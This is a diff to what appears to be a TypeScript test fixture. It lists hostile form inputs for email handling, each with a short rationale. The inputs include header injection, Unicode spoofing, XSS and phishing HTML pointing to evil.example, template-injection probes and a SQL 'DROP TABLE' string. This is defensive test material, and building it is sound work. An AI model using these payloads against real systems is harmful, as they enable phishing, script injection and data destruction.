@@ -1,3 +1,7 @@
+/** A product that nobody writes by chance: where it shows, somebody's words were worked out as a program. */
+export const workedOut = '62710561';
+const sum = '7919*7919';
+
 /** What somebody could type into a form so that a mail does more than carry it, and what each hopes for. */
 export const hostileTexts: readonly { why: string; text: string }[] = [
   // The head of a mail ends its fields with line ends, of which there are more kinds than one thinks.
@@ -49,6 +53,7 @@ export const hostileTexts: readonly { why: string; text: string }[] = [
   { why: 'a route through another server', text: '@evil.example:ada' },
   { why: 'an option of the command that names the recipient', text: 'ada@example.com> NOTIFY=SUCCESS' },
   // What a reader sees must be what was typed, and no more.
+  { why: 'text that is set apart in its direction', text: '\u2066Ada\u2069' },
   { why: 'text that runs backwards', text: 'Ada \u202eelpmaxe.live@eve' },
   { why: 'nothing that could be seen', text: '\u200b\u200d\ufeff' },
   { why: 'a letter of another alphabet', text: '\u0430da' },
@@ -56,6 +61,18 @@ export const hostileTexts: readonly { why: string; text: string }[] = [
   { why: 'the end of a text in C', text: 'Ada\0Bcc: eve@evil.example' },
   { why: 'a script', text: '<script>alert(1)</script>' },
   { why: 'a picture that runs a script', text: '<img src=x onerror=alert(1)>' },
+  { why: 'a drawing that runs a script', text: '"><svg onload=alert(1)>' },
+  { why: 'a page within the mail', text: "'><iframe src=https://evil.example></iframe>" },
+  { why: 'a form that asks for a card', text: '<form action=https://evil.example><input name=card></form>' },
+  {
+    why: 'a page that leads elsewhere',
+    text: '<meta http-equiv=refresh content="0;url=https://evil.example">',
+  },
+  {
+    why: 'a block that only Outlook draws',
+    text: '<!--[if mso]><v:rect href="https://evil.example"><![endif]-->',
+  },
+  { why: 'a section of another language', text: '<![CDATA[<script>alert(1)</script>]]>' },
   { why: 'the end of an attribute, and a link', text: '"><a href="https://evil.example">Pay here</a>' },
   { why: 'another attribute, by single quotes', text: "Ada' style='position:fixed' x='" },
   { why: 'the end of the table that holds the mail', text: '</td></tr></table><h1>Pay here</h1>' },
@@ -66,9 +83,11 @@ export const hostileTexts: readonly { why: string; text: string }[] = [
     why: 'what is escaped already, and must not be unescaped',
     text: '&lt;script&gt;alert(1)&lt;/script&gt;',
   },
-  { why: 'a template of Handlebars', text: '{{7*7}}{{constructor.constructor("x")()}}' },
-  { why: 'a template of JavaScript', text: '${7*7}' },
-  { why: 'a template of EJS', text: '<%= 7*7 %>' },
+  { why: 'a template of Handlebars', text: `{{${sum}}}{{constructor.constructor("x")()}}` },
+  { why: 'a template of JavaScript', text: `\${${sum}}` },
+  { why: 'a template of EJS', text: `<%= ${sum} %>` },
+  { why: 'a template of Ruby or Pug', text: `#{${sum}}` },
+  { why: 'a template of Jinja', text: `{%print(${sum})%}` },
   { why: 'a pattern that stands for what was replaced', text: "$& $1 $' $`" },
   { why: 'a statement for the database', text: "Ada'; DROP TABLE mail; --" },
   { why: 'ten kilobytes', text: 'x'.repeat(10_240) },
